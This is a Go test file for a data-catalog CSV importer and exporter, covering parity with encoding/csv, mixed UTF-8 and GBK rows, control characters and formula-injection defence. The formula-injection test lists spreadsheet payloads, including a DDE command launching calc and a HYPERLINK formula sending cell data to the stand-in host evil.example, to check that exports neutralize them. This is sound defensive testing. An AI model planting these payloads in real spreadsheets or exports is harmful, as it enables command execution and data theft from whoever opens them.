package catalog

import (
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"io"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/text/encoding/simplifiedchinese"
)

// readAllCSV reads every record with csvRows, keeping every field, as
// encoding/csv would return them; err is the problem of the record where
// reading stopped.
func readAllCSV(data []byte) (records [][]string, err error) {
	c := newCSVRows(bytes.NewReader(data), DefaultLimits(), &interner{m: map[string]string{}})
	c.setKeep(make([]int, maxCols)) // every field, whole
	for {
		ok, p := c.readRecord()
		if c.err != nil {
			return records, c.err
		}
		if p != nil {
			return records, errors.New(p.en)
		}
		if !ok {
			return records, nil
		}
		rec := []string{}
		for k := range c.ends {
			start := 0
			if k > 0 {
				start = c.ends[k-1]
			}
			for len(rec) < c.cols[k] {
				rec = append(rec, "")
			}
			rec = append(rec, string(c.raw[start:c.ends[k]]))
		}
		for len(rec) <= c.col {
			rec = append(rec, "")
		}
		records = append(records, rec)
	}
}

// stdCSV reads every record as ImportCSV used to, with encoding/csv.
func stdCSV(data []byte) (records [][]string, err error) {
	r := csv.NewReader(bytes.NewReader(data))
	r.FieldsPerRecord = -1
	for {
		rec, err := r.Read()
		if errors.Is(err, io.EOF) {
			return records, nil
		}
		if err != nil {
			return records, err
		}
		records = append(records, rec)
	}
}

// csvReaderCases are the corners of encoding/csv's reading.
var csvReaderCases = []string{
	"", "\n", "\r\n", "a", "a\n", "a,b\nc,d", "a,b\r\nc,d\r\n", ",\n,,\n", "a\n\nb\n\r\n\r\nc",
	`"a,b",c` + "\n", `"a""b"` + "\n", `"a` + "\n" + `b"` + "\n", `"a` + "\r\n" + `b"`, "\"a\rb\"\n", "a\rb\n", "a\r", "\"a\"\r", "\"a\"\r\n",
	`""` + "\n", `"",""`, " \"a\"", `a"b`, `"a"b`, `"a`, `"a"` + "\r" + `x`, "a,\"b\"\n\"c\",d", "\xff\xfe,\x81\x40",
	"\"\"\"\"", "\"a\"\"\"", "a,\n", "\n\na", "\r", "\r\r\n", "x\r\r\n", `"x` + "\r",
}

// csvRows reads records as encoding/csv does: the same fields, and an
// error at the same record.
func TestCSVReaderMatchesEncodingCSV(t *testing.T) {
	for _, in := range csvReaderCases {
		compareCSVReaders(t, []byte(in))
	}
}

func compareCSVReaders(t *testing.T, data []byte) {
	t.Helper()
	want, wantErr := stdCSV(data)
	got, gotErr := readAllCSV(data)
	require.Equal(t, wantErr != nil, gotErr != nil, "%q: encoding/csv %v, csvRows %v", data, wantErr, gotErr)
	require.Equal(t, want, got, "%q", data)
}

func FuzzCSVReader(f *testing.F) {
	for _, in := range csvReaderCases {
		f.Add([]byte(in))
	}
	f.Fuzz(func(t *testing.T, data []byte) { compareCSVReaders(t, data) })
}

// A file pasted together from a UTF-8 and a GBK one: each row in the other
// encoding is reported at its first cell that is not ASCII, and left out;
// the rest is read.
func TestCSVMixedEncodings(t *testing.T) {
	gbk := func(s string) string {
		b, err := simplifiedchinese.GB18030.NewEncoder().String(s)
		require.NoError(t, err)
		return b
	}
	h := csvHeader()
	line := func(row map[string]string) string { return strings.SplitN(csvText(h, row), "\n", 2)[1] }
	item := func(name string) map[string]string {
		return map[string]string{"目录代码": "101001/000001", "数据项名称": name}
	}
	first := csvText(h, filledRow())

	t.Run("UTF-8 file, GBK rows", func(t *testing.T) {
		text := first + gbk(line(item("公民身份号码"))) + line(item("住址")) + gbk(line(item("籍贯")))
		entries, findings, err := ImportCSV(context.Background(), strings.NewReader(text))
		require.NoError(t, err)
		assert.Equal(t, []string{CodeMalformed + "@Q3", CodeMalformed + "@Q5"}, codesAt(findings))
		assert.Contains(t, findings[0].Message, "不是UTF-8编码")
		assert.Contains(t, findings[0].Message, "该行未导入")
		require.Len(t, entries, 1)
		var names []string
		for _, it := range entries[0].Items {
			names = append(names, it.Name)
		}
		assert.Equal(t, []string{"姓名", "住址"}, names)
	})
	t.Run("GB18030 file, a UTF-8 row", func(t *testing.T) {
		text := gbk(first) + line(item("公民身份号码")) + gbk(line(item("住址")))
		entries, findings, err := ImportCSV(context.Background(), strings.NewReader(text))
		require.NoError(t, err)
		assert.Equal(t, []string{CodeMalformed + "@Q3"}, codesAt(findings))
		assert.Contains(t, findings[0].Message, "是UTF-8编码，而表头行是GB18030编码")
		require.Len(t, entries, 1)
		assert.Equal(t, "户籍人口基本信息", entries[0].Name)
		require.Len(t, entries[0].Items, 2)
		assert.Equal(t, "住址", entries[0].Items[1].Name)
	})
	t.Run("a BOM says UTF-8", func(t *testing.T) {
		// (Not 住址: its GBK bytes, D7A1 D6B7, happen to be valid UTF-8.)
		text := string(utf8BOM) + first + gbk(line(item("籍贯")))
		_, findings, err := ImportCSV(context.Background(), strings.NewReader(text))
		require.NoError(t, err)
		assert.Equal(t, []string{CodeMalformed + "@Q3"}, codesAt(findings))
	})
	t.Run("a title row in GBK above a UTF-8 header", func(t *testing.T) {
		text := gbk("杭州市公安局政务数据目录\n") + first
		entries, findings, err := ImportCSV(context.Background(), strings.NewReader(text))
		require.NoError(t, err)
		assert.Empty(t, findings)
		require.Len(t, entries, 1)
	})
}

func TestCSVControlCharacters(t *testing.T) {
	h := csvHeader()
	row := filledRow()
	row["摘要"] = "本市户籍\x00人口"
	second := map[string]string{"目录代码": "101001/000001", "数据项名称": "住址", "说明": "含\x1b[31m转义"}
	entries, findings, err := ImportCSV(context.Background(), strings.NewReader(csvText(h, row, second)))
	require.NoError(t, err)
	assert.Equal(t, []string{CodeControlChar + "@C2", CodeControlChar + "@W3"}, codesAt(findings))
	assert.Contains(t, findings[0].Message, "控制字符U+0000")
	assert.Contains(t, findings[1].Message, "控制字符U+001B")
	require.Len(t, entries, 1)
	assert.Equal(t, "", entries[0].Summary, "the cell was not imported")
	require.Len(t, entries[0].Items, 2)
	assert.Equal(t, "", entries[0].Items[1].Description)
	// Tabs and line breaks are text.
	row["摘要"] = "第一行\n第二行\t续"
	entries, findings, err = ImportCSV(context.Background(), strings.NewReader(csvText(h, row)))
	require.NoError(t, err)
	assert.Empty(t, findings)
	assert.Equal(t, "第一行\n第二行 续", entries[0].Summary)
}

// The fields OWASP's CSV-injection guidance names are written with a
// leading "'", and ImportCSV reads back exactly what was exported.
func TestCSVFormulaInjection(t *testing.T) {
	formulas := []string{
		"=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+86 571 8888 8888", "-1",
		"=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "'=already quoted", "''@twice", "'", "'x", "=", "@",
	}
	e := validEntry()
	e.Name = formulas[0]
	e.Summary = formulas[1]
	e.Conditions = formulas[2]
	e.Provider.Name = formulas[4]
	e.Items = nil
	for i, f := range formulas {
		e.Items = append(e.Items, DataItem{Name: f + string(rune('甲'+i)), Description: f, Column: "c" + string(rune('a'+i))})
	}
	var out bytes.Buffer
	require.NoError(t, ExportCSV(&out, []Entry{e}))

	recs, err := stdCSV(bytes.TrimPrefix(out.Bytes(), utf8BOM))
	require.NoError(t, err)
	for _, rec := range recs {
		for _, field := range rec {
			if field != "" {
				assert.False(t, formulaStart(field[0]), "a field a spreadsheet would run: %q", field)
			}
		}
	}
	assert.Contains(t, out.String(), `'=cmd|' /C calc'!A0`)
	assert.Contains(t, out.String(), `'-1`)
	assert.Contains(t, out.String(), `,''=already quoted`, "one more apostrophe, so that reading drops exactly one")

	got, _, err := ImportCSV(context.Background(), bytes.NewReader(out.Bytes()))
	require.NoError(t, err)
	require.Len(t, got, 1)
	assert.Equal(t, authoring([]Entry{e}), got)
}

// neutralize and unneutralize are inverse on every string, and no
// neutralized field starts with a formula character.
func FuzzNeutralize(f *testing.F) {
	for _, s := range []string{"", "=1+1", "'=1", "''-", "\t=x", "\r@", "'", "a", "+", "'a"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		n := neutralize(s)
		if n != "" && formulaStart(n[0]) {
			t.Fatalf("%q neutralized to %q", s, n)
		}
		if back := string(unneutralize([]byte(n))); back != s {
			t.Fatalf("%q → %q → %q", s, n, back)
		}
	})
}
